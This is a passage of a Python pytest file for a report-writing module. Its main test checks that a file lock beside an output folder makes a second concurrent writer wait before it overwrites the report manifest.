    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["r", *(p.name for p in kept)])
    assert report.recover_report(target) == []


def test_reports_to_one_folder_take_turns(result, default_inputs, tmp_path):
    """The lock beside the folder: a second writer waits for the first."""
    import fcntl
    import threading

    target = report.write_report(result, tmp_path / "r", figures=False)
    fd = os.open(tmp_path / ".r.lock", os.O_RDWR | os.O_CREAT, 0o644)
    fcntl.flock(fd, fcntl.LOCK_EX)
    done = []
    other = fc.exact_update(*default_inputs, as_of="2025-03-31")
    worker = threading.Thread(target=lambda: done.append(report.write_report(other, target, figures=False)))
    worker.start()
    try:
        worker.join(1.0)
        assert worker.is_alive() and not done
        assert json.loads((target / "manifest.json").read_text())["as_of"] == AS_OF
    finally:
        os.close(fd)
        worker.join(60)
    assert done and json.loads((target / "manifest.json").read_text())["as_of"] == "2025-03-31"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r"]
